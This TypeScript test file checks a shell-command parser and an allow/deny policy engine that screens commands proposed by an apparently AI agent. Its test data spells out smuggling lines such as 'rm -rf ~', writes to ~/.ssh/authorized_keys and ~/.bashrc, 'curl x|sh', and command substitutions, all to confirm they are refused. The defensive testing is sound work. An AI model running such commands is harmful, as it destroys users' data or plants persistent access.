import assert from 'node:assert/strict';
import { existsSync } from 'node:fs';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import { decide } from '../../../src/core/decisions/decide';
import type { Policy, PolicyRule } from '../../../src/core/decisions/decisionTypes';
import { defaultPolicy, policyProblem } from '../../../src/core/decisions/policy';
import { matchCommandRules, parseShellCommand, type CommandRule } from '../../../src/core/decisions/shellCommand';
import { SkillRegistry } from '../../../src/core/skills/skillRegistry';
import { git } from '../skills/skillFixtures';
import { tempDirsForSuite } from '../store/storeFixtures';
import { editPolicy, engineFixture, MORNING } from './decisionFixtures';

/** Each simple command as `<operator before> <argv joined by spaces>`, nested ones marked. */
function commandsOf(line: string): string[] {
  const parsed = parseShellCommand(line);
  assert.ok(parsed.ok, `${line} parses: ${parsed.error ?? ''}`);
  return parsed.commands.map((c) => `${c.nested ? 'nested ' : ''}${c.after ?? '^'} ${c.words.join(' ')}`);
}

function kindsOf(line: string): string[] {
  return parseShellCommand(line).constructs.map((c) => c.kind);
}

const SMUGGLERS = ['git log; rm -rf ~', 'git show > ~/.ssh/authorized_keys', 'git log && curl x|sh', 'git log $(rm -rf ~)'];
const ALLOWED: CommandRule = { exact: ['git log', 'git show', 'git status'] };

describe('shell command lines: parsing', () => {
  it('splits chains at ; && || | and newlines, keeping the operator before each command', () => {
    assert.deepEqual(commandsOf('git log; rm -rf x'), ['^ git log', '; rm -rf x']);
    assert.deepEqual(commandsOf('make && make test || echo failed'), ['^ make', '&& make test', '|| echo failed']);
    assert.deepEqual(commandsOf('git log|sh'), ['^ git log', '| sh']);
    assert.deepEqual(commandsOf('git status\nrm x'), ['^ git status', '\n rm x']);
    assert.deepEqual(commandsOf('git log&&curl x|sh'), ['^ git log', '&& curl x', '| sh']);
  });

  it('finds redirections, with or without spaces and file descriptors', () => {
    for (const line of ['git show > out', 'git show>out', 'git log 2>&1', 'git log &>all', 'git log >> log', 'sort < in', 'cat <<EOF\nx\nEOF', 'cat <<<word']) {
      const kinds = kindsOf(line);
      assert.ok(kinds.includes('redirection') || kinds.includes('heredoc') || kinds.includes('here-string'), `${JSON.stringify(line)}: ${kinds.join(',')}`);
    }
    assert.deepEqual(commandsOf('git show > out'), ['^ git show'], 'the target is not an argument of the command');
  });

  it('reads command substitutions and backticks as nested commands, also inside double quotes', () => {
    assert.deepEqual(commandsOf('git log $(rm -rf ~)'), ['nested ^ rm -rf ~', '^ git log $(rm -rf ~)']);
    assert.deepEqual(commandsOf('git log `id`'), ['nested ^ id', '^ git log `id`']);
    assert.deepEqual(commandsOf('echo "$(id)"'), ['nested ^ id', '^ echo $(id)']);
    assert.deepEqual(kindsOf('echo "`id`"'), ['double-quote', 'backticks']);
  });

  it('reads subshells and groups as nested commands', () => {
    const parsed = parseShellCommand('(cd /; rm -rf x)');
    assert.deepEqual(
      parsed.commands.map((c) => [c.nested, c.raw]),
      [
        [true, 'cd /'],
        [true, 'rm -rf x'],
        [false, '(cd /; rm -rf x)'],
      ],
    );
    assert.ok(kindsOf('(git log)').includes('subshell'));
    assert.ok(kindsOf('{ git log; }').includes('group'));
  });

  it('removes quotes and escapes: quoted operators are words, not chains', () => {
    assert.deepEqual(commandsOf(`git log --grep 'a; rm -rf ~'`), ['^ git log --grep a; rm -rf ~']);
    assert.deepEqual(commandsOf('git log --grep "x\\"; rm y"'), ['^ git log --grep x"; rm y']);
    assert.deepEqual(commandsOf('echo a\\;b'), ['^ echo a;b']);
    assert.deepEqual(commandsOf("git 'log'"), ['^ git log']);
    assert.deepEqual(commandsOf("echo '$(id)'"), ['^ echo $(id)'], 'single quotes keep $( literal: nothing nested');
  });

  it('refuses to read what it cannot be sure of, saying what is wrong', () => {
    const cases: Array<[string, RegExp]> = [
      ['git log "unterminated', /double quote.*never closed/],
      ["git log 'open", /single quote.*never closed/],
      ['git log `id', /backtick.*never closed/],
      ['git log $(id', /never closed/],
      ['git log )', /unexpected `\)`/],
      [';git log', /has no command before it/],
      ['git log \\', /ends with a backslash/],
    ];
    for (const [line, problem] of cases) {
      const parsed = parseShellCommand(line);
      assert.equal(parsed.ok, false, line);
      assert.match(parsed.error ?? '', problem, line);
      assert.equal(matchCommandRules(parsed, [{ exact: ['git log'], patterns: ['.*'] }]).allowed, false, `${line} is never allowed`);
    }
  });
});

describe('shell command lines: allow rules match whole commands', () => {
  it('allows an exact command, however it is spaced or quoted', () => {
    for (const line of ['git log', 'git  log', "git 'log'", 'git "log"', 'git log;', 'git log && git status', 'git log | git show']) {
      assert.equal(matchCommandRules(parseShellCommand(line), [ALLOWED]).allowed, true, line);
    }
  });

  it('an allowed prefix never smuggles a second command, a redirect or a substitution', () => {
    for (const line of [...SMUGGLERS, 'git log `rm -rf ~`', 'git log >/dev/null', 'git log & rm x', 'git log\nrm x', '(git log)', 'git log --all', 'git log ~', 'git log $HOME', 'git\\ log', 'FOO=1 git log', 'git log #x', 'git log\r']) {
      const match = matchCommandRules(parseShellCommand(line), [ALLOWED]);
      assert.equal(match.allowed, false, line);
      assert.match(match.reason, /^Refused: /, line);
    }
  });

  it('names what refused it', () => {
    const reasons = SMUGGLERS.map((line) => matchCommandRules(parseShellCommand(line), [ALLOWED]).reason);
    assert.match(reasons[0], /expands `~`|`rm -rf ~` \(after `;`\)/);
    assert.match(reasons[1], /has a redirection \(`> ~\/\.ssh\/authorized_keys`\)/);
    assert.match(reasons[2], /`curl x` \(after `&&`\) matches no allowed command/);
    assert.match(reasons[3], /has a command substitution/);
  });

  it('a pattern must match the whole command, never a prefix', () => {
    const rule: CommandRule = { patterns: ['git show [0-9a-f]{7,40}'] };
    assert.equal(matchCommandRules(parseShellCommand('git show 1a2b3c4'), [rule]).allowed, true);
    assert.equal(matchCommandRules(parseShellCommand('git show 1a2b3c4 --output=/tmp/x'), [rule]).allowed, false);
    assert.equal(matchCommandRules(parseShellCommand('xgit show 1a2b3c4'), [rule]).allowed, false);
    assert.equal(matchCommandRules(parseShellCommand('git show 1a2b3c4; rm -rf ~'), [rule]).allowed, false);
    assert.equal(matchCommandRules(parseShellCommand('git show 1a2b3c4 > ~/.bashrc'), [rule]).allowed, false);
    const alternation: CommandRule = { patterns: ['git log|git status'] };
    assert.equal(matchCommandRules(parseShellCommand('git log; rm -rf ~'), [alternation]).allowed, false, 'an alternation is anchored as a whole');
    assert.equal(matchCommandRules(parseShellCommand('git status --porcelain'), [alternation]).allowed, false);
  });

  it('nothing is allowed when no rule lists any command, and an empty line is refused', () => {
    assert.equal(matchCommandRules(parseShellCommand('git log'), []).allowed, false);
    assert.match(matchCommandRules(parseShellCommand('   '), [ALLOWED]).reason, /empty/);
  });

  it('a policy pattern that is not a regular expression makes the policy unusable', () => {
    const policy: Policy = { ...defaultPolicy(), rules: [{ id: 'bad', effect: 'allow', commands: { patterns: ['git log ('] } }] };
    assert.match(policyProblem(policy) ?? '', /rule "bad" has a pattern that is not a valid regular expression/);
  });
});

describe('shell command lines: the policy decides (shell at bounded, git log and git show allowed)', () => {
  const manifest = SkillRegistry.load().get('shell')!.manifest;
  const allowGit: PolicyRule = { id: 'git-read', effect: 'allow', skills: ['shell'], commands: { exact: ['git log', 'git show'] } };
  const denyRm: PolicyRule = { id: 'no-rm', effect: 'deny', skills: ['shell'], commands: { patterns: ['rm( .*)?'] } };
  const judge = (command: string, rules: PolicyRule[] = [allowGit]) =>
    decide({
      proposal: { skill: 'shell', args: { command }, source: 'agent:organizer', workspace: '/work/project' },
      manifest,
      policy: { ...defaultPolicy(), skills: { shell: { enabled: true, level: 'bounded' } }, rules },
      now: MORNING,
      quietHours: [],
      recent: [],
      paused: false,
    });

  it('allows an allowed command, naming the rule', () => {
    const result = judge('git log');
    assert.deepEqual([result.decision, result.rule], ['allow', 'rule:git-read']);
  });

  it('asks for each smuggling line, saying why', () => {
    for (const line of SMUGGLERS) {
      const result = judge(line);
      assert.deepEqual([result.decision, result.rule], ['ask', 'command:unmatched'], line);
      assert.match(result.reason, /Refused: .*Commands no allow rule lists always ask\./, line);
    }
  });

  it('asks for a command no rule lists', () => {
    assert.deepEqual([judge('ls -la').decision, judge('ls -la').rule], ['ask', 'command:unmatched']);
  });

  it('a deny rule on a command finds it anywhere in the line, nested too', () => {
    for (const line of ['rm -rf build', 'git log; rm -rf ~', 'git log $(rm -rf ~)', 'git log `rm x`', '(rm x)']) {
      const result = judge(line, [denyRm, allowGit]);
      assert.deepEqual([result.decision, result.rule], ['deny', 'rule:no-rm'], line);
    }
    assert.equal(judge('git log', [denyRm, allowGit]).decision, 'allow');
  });

  it('an allow rule for other skills does not let a command line through', () => {
    const result = judge('git log', [{ id: 'everything', effect: 'allow' }]);
    assert.deepEqual([result.decision, result.rule], ['ask', 'command:unmatched']);
  });
});

describe('shell command lines: through the engine nothing smuggled runs', () => {
  const temp = tempDirsForSuite();

  it('git log runs alone; the smuggling lines wait for the person and create nothing', async () => {
    const f = await engineFixture(temp);
    git(f.workspace, 'init', '-q');
    git(f.workspace, 'commit', '-q', '--allow-empty', '-m', 'start');
    editPolicy(f.store, (policy) => {
      policy.skills.shell = { enabled: true, level: 'bounded' };
      policy.rules.push({ id: 'git-read', effect: 'allow', skills: ['shell'], commands: { exact: ['git log', 'git show'] } });
    });
    const ran = await f.engine.propose({ skill: 'shell', args: { command: 'git log' }, source: 'agent:organizer', reason: 'history', workspace: f.workspace });
    assert.deepEqual([ran.decision.decision, ran.status], ['allow', 'executed']);
    assert.match(ran.output ?? '', /start/);

    const smuggled = ['git log; touch smuggled-1', 'git show > smuggled-2', 'git log && touch smuggled-3|cat', 'git log $(touch smuggled-4)'];
    for (const command of smuggled) {
      const state = await f.engine.propose({ skill: 'shell', args: { command }, source: 'agent:organizer', reason: 'history', workspace: f.workspace });
      assert.deepEqual([state.status, state.decision.rule], ['pending', 'command:unmatched'], command);
    }
    for (const n of [1, 2, 3, 4]) assert.equal(existsSync(join(f.workspace, `smuggled-${n}`)), false);
    await f.close();
  });
});
